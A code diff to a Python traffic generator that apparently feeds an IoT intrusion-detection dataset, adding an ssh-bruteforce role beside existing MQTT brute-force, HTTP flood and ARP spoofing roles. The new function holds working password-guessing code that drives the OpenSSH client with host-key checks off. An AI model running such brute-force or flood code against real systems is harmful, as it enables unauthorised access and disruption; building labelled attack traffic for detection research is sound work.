@@ -3,7 +3,8 @@
 
 Benign: ``sensor`` (MQTT telemetry at a jittered rate, and a camera snapshot
 now and then over HTTP), ``camera`` (an HTTP server). Attacks, each bounded
-in time and in attempts: ``mqtt-bruteforce``, ``http-flood``, ``arp-spoof``.
+in time and in attempts: ``mqtt-bruteforce``, ``ssh-bruteforce`` (the OpenSSH
+client), ``http-flood``, ``arp-spoof``.
 Scans and packet floods use nmap and hping3 directly (see scenarios.py).
 """
 
@@ -81,6 +82,32 @@ def mqtt_bruteforce(args: argparse.Namespace) -> None:
         time.sleep(args.pause)
 
 
+def ssh_bruteforce(args: argparse.Namespace) -> None:
+    """Guess passwords with the real OpenSSH client, one connection per guess."""
+    import os
+    import stat
+    import subprocess
+    import tempfile
+
+    rng = random.Random(args.seed)
+    deadline = time.monotonic() + args.seconds
+    with tempfile.TemporaryDirectory() as scratch:
+        askpass = os.path.join(scratch, "askpass")
+        with open(askpass, "w") as handle:
+            handle.write('#!/bin/sh\necho "$IOTIDS_GUESS"\n')
+        os.chmod(askpass, stat.S_IRWXU)
+        for _ in range(args.attempts):
+            if time.monotonic() >= deadline:
+                break
+            env = {**os.environ, "SSH_ASKPASS": askpass, "SSH_ASKPASS_REQUIRE": "force",
+                   "IOTIDS_GUESS": f"pw{rng.randrange(10**6):06d}"}
+            subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+                            "-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1",
+                            "-o", "ConnectTimeout=3", "-o", "LogLevel=QUIET", f"{args.user}@{args.target}", "true"],
+                           env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=10, check=False)
+            time.sleep(args.pause)
+
+
 def http_flood(args: argparse.Namespace) -> None:
     deadline = time.monotonic() + args.seconds
     for _ in range(args.attempts):
@@ -120,24 +147,25 @@ def main() -> None:
     p = roles.add_parser("camera")
     p.add_argument("--port", type=int, default=80)
     p.add_argument("--seed", type=int, default=0)
-    for name in ("mqtt-bruteforce", "http-flood"):
+    for name in ("mqtt-bruteforce", "ssh-bruteforce", "http-flood"):
         p = roles.add_parser(name)
         p.add_argument("--seconds", type=float, required=True)
         p.add_argument("--attempts", type=int, required=True)
         p.add_argument("--seed", type=int, default=0)
         if name == "mqtt-bruteforce":
             p.add_argument("--broker", required=True)
-            p.add_argument("--user", required=True)
-            p.add_argument("--pause", type=float, default=0.05)
         else:
             p.add_argument("--target", required=True)
+        if name != "http-flood":
+            p.add_argument("--user", required=True)
+            p.add_argument("--pause", type=float, default=0.05)
     p = roles.add_parser("arp-spoof")
     p.add_argument("--seconds", type=float, required=True)
     for name in ("victim", "victim-mac", "gateway", "gateway-mac"):
         p.add_argument(f"--{name}", required=True)
     args = parser.parse_args()
-    handlers = {"sensor": sensor, "camera": camera, "mqtt-bruteforce": mqtt_bruteforce, "http-flood": http_flood,
-                "arp-spoof": arp_spoof}
+    handlers = {"sensor": sensor, "camera": camera, "mqtt-bruteforce": mqtt_bruteforce,
+                "ssh-bruteforce": ssh_bruteforce, "http-flood": http_flood, "arp-spoof": arp_spoof}
     try:
         handlers[args.role](args)
     except KeyboardInterrupt:
